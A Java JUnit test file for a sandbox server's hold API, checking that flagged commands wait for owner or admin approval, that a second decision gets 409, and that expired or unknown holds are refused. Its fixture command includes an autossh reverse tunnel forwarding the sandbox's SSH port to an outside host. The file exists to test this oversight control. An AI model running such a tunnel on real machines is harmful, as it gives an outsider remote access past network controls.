package dev.ale.server;

import com.fasterxml.jackson.databind.JsonNode;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.Optional;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.stream.Stream;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.RegisterExtension;

import static dev.ale.server.LiveServer.ADMIN;
import static dev.ale.server.LiveServer.ALICE;
import static dev.ale.server.LiveServer.BOB;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/** The hold routes over HTTP against real sandboxes: list, approve, deny, who may see and decide what, and the 409 of a second answer. */
@Tag("root")
class HoldApiTest {

    @RegisterExtension
    static final LiveServer live = new LiveServer();

    private static final String HELD = "{\"command\": \"touch /workspace/ran; autossh -M 0 -R 9000:localhost:22 agent@203.0.113.9\", \"timeout_seconds\": 60}";

    private static String sandbox(String token, String passport) {
        LiveServer.Reply r = live.call("POST", "/v1/sandboxes", token, "{\"passport\": \"" + passport + "\"}");
        assertThat(r.status()).as(r.body()).isEqualTo(201);
        return r.json().get("id").asText();
    }

    private static CompletableFuture<LiveServer.Reply> execLater(String token, String id) {
        return CompletableFuture.supplyAsync(() -> live.call("POST", "/v1/sandboxes/" + id + "/exec", token, HELD));
    }

    private static JsonNode pendingHold(String token, String sandboxId) {
        return await().atMost(Duration.ofSeconds(30)).until(() -> {
            for (JsonNode h : live.call("GET", "/holds", token, null).json()) {
                if (h.get("sandboxId").asText().equals(sandboxId) && h.get("state").asText().equals("pending")) return Optional.of(h);
            }
            return Optional.<JsonNode>empty();
        }, Optional::isPresent).orElseThrow();
    }

    @Test
    void theOwnerApprovesAHeldCommandItRunsAndASecondAnswerIsTold409WithWhoDecided() throws Exception {
        String id = sandbox(ALICE, "hold");
        CompletableFuture<LiveServer.Reply> call = execLater(ALICE, id);
        JsonNode hold = pendingHold(ALICE, id);
        String holdId = hold.get("id").asText();
        assertThat(hold.get("kind").asText()).isEqualTo("command");
        assertThat(hold.get("category").asText()).isEqualTo("tunnel");
        assertThat(hold.has("createdAt") && hold.has("deadline") && hold.has("ruleId") && hold.has("detail")).isTrue();

        // another env token neither sees nor decides it
        assertThat(live.call("GET", "/holds", BOB, null).json().findValuesAsText("id")).doesNotContain(holdId);
        assertThat(live.call("POST", "/holds/" + holdId + "/deny", BOB, null).status()).isEqualTo(404);

        LiveServer.Reply approved = live.call("POST", "/holds/" + holdId + "/approve", ALICE, null);
        assertThat(approved.status()).isEqualTo(200);
        assertThat(approved.json().get("state").asText()).isEqualTo("approved");
        assertThat(approved.json().get("decidedBy").asText()).isEqualTo("alice");
        assertThat(approved.json().has("decidedAt")).isTrue();

        LiveServer.Reply second = live.call("POST", "/holds/" + holdId + "/deny", ADMIN, null);
        assertThat(second.status()).isEqualTo(409);
        assertThat(second.errorCode()).isEqualTo("conflict");
        assertThat(second.json().path("error").path("message").asText()).contains("already approved by alice");
        assertThat(second.json().path("hold").path("decidedBy").asText()).isEqualTo("alice");

        LiveServer.Reply result = call.get(60, TimeUnit.SECONDS);
        assertThat(result.json().get("exit_code").asInt()).isNotEqualTo(126);
        assertThat(live.call("POST", "/v1/sandboxes/" + id + "/exec", ALICE, "{\"command\": \"test -e /workspace/ran\"}")
                .json().get("exit_code").asInt()).isZero();
    }

    /** The first line of the sandbox's event stream (Server-Sent Events) that contains {@code text}. */
    private static String firstEventWith(String token, String id, String text) {
        HttpRequest request = HttpRequest.newBuilder(live.uri("/v1/sandboxes/" + id + "/events")).header("Authorization", "Bearer " + token).GET().build();
        try {
            HttpResponse<Stream<String>> response = live.http().send(request, HttpResponse.BodyHandlers.ofLines());
            assertThat(response.statusCode()).isEqualTo(200);
            try (Stream<String> lines = response.body()) {
                return lines.filter(l -> l.contains(text)).findFirst().orElseThrow();
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new AssertionError(e);
        }
    }

    @Test
    void theAdminDeniesAnyonesHeldCommandAndItIsBlocked() throws Exception {
        String id = sandbox(BOB, "hold");
        // the sandbox's event stream, open before anything is held, carries the HELD event as it happens
        CompletableFuture<String> heldLine = CompletableFuture.supplyAsync(() -> firstEventWith(BOB, id, "\"action\":\"hold\""));
        CompletableFuture<LiveServer.Reply> call = execLater(BOB, id);
        String holdId = pendingHold(ADMIN, id).get("id").asText();
        assertThat(heldLine.get(60, TimeUnit.SECONDS)).startsWith("data:").contains("tunnel.ssh.remote-forward");
        assertThat(call).as("the command still waits").isNotDone();

        LiveServer.Reply denied = live.call("POST", "/holds/" + holdId + "/deny", ADMIN, null);

        assertThat(denied.status()).isEqualTo(200);
        assertThat(denied.json().get("state").asText()).isEqualTo("denied");
        assertThat(denied.json().get("decidedBy").asText()).isEqualTo("root");
        LiveServer.Reply result = call.get(60, TimeUnit.SECONDS);
        assertThat(result.json().get("exit_code").asInt()).isEqualTo(126);
        assertThat(result.json().toString()).contains("denied by root");
    }

    @Test
    void approvingAHoldThatExpiredIs409AndSaysItExpired() throws Exception {
        String id = sandbox(ALICE, "hold-short");
        LiveServer.Reply result = execLater(ALICE, id).get(60, TimeUnit.SECONDS);
        assertThat(result.json().get("exit_code").asInt()).isEqualTo(126);
        JsonNode expired = null;
        for (JsonNode h : live.call("GET", "/holds", ALICE, null).json()) if (h.get("sandboxId").asText().equals(id)) expired = h;
        assertThat(expired).isNotNull();
        assertThat(expired.get("state").asText()).isEqualTo("expired");
        assertThat(expired.get("decidedBy").asText()).isEqualTo("deadline");

        LiveServer.Reply late = live.call("POST", "/holds/" + expired.get("id").asText() + "/approve", ALICE, null);

        assertThat(late.status()).isEqualTo(409);
        assertThat(late.json().path("error").path("message").asText()).contains("expired");
    }

    @Test
    void anUnknownHoldIs404AndNoTokenIs401() {
        assertThat(live.call("POST", "/holds/hold-000000000000/approve", ADMIN, null).status()).isEqualTo(404);
        assertThat(live.call("GET", "/holds", null, null).status()).isEqualTo(401);
        assertThat(live.call("POST", "/holds/hold-000000000000/deny", null, null).status()).isEqualTo(401);
    }
}
